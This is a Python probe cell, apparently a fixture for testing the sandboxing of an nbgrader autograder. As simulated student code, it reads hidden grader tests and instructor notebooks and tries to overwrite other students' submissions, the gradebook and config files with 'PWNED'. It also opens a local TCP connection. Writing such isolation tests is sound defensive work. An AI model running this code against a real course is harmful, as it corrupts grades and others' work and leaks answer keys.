"""Reads grader_tests/ and source/ from disk, writes into other students' folders, source/, release/, grader_tests/, and opens a TCP connection."""
# plain: not probed (plain nbgrader runs student code as the instructor, with the network)
# lost: -
# status: graded
# feedback: cannot write | no connection to
# %% broadcast +
import glob as _glob, os as _os, socket as _socket
print("course root holds:", sorted(_os.listdir("../../..")) if _os.path.isdir("../../..") else None)
for _pattern in ("../../../grader_tests/*/*.py", "@COURSE@/grader_tests/*/*.py", "@COURSE@/source/*/*.ipynb",
                 "../../../source/*/*.ipynb"):
    for _path in _glob.glob(_pattern):
        print("READ", _path, open(_path).read()[:2000])
for _path in ("../../@OTHER@/ps1_learning_rates/learning_rates.ipynb", "@COURSE@/submitted/@OTHER@/ps1_learning_rates/learning_rates.ipynb",
              "@COURSE@/autograded/@OTHER@/ps1_learning_rates/learning_rates.ipynb",
              "@COURSE@/source/ps1_learning_rates/learning_rates.ipynb", "@COURSE@/release/ps1_learning_rates/learning_rates.ipynb",
              "@COURSE@/grader_tests/ps1_learning_rates/test_training.py", "@COURSE@/nbgrader_config.py",
              "../../../gradebook.db"):
    try:
        with open(_path, "w") as _handle:
            _handle.write("PWNED")
        print("WROTE", _path)
    except OSError as _error:
        print("cannot write", _path, "-", _error.strerror.lower() if _error.strerror else _error)
for _address in (("127.0.0.1", @PORT@),):
    try:
        _socket.create_connection(_address, timeout=3).sendall(b"PWNED")
        print("CONNECTED", _address)
    except OSError as _error:
        print("no connection to", _address, "-", _error.strerror.lower() if _error.strerror else _error)
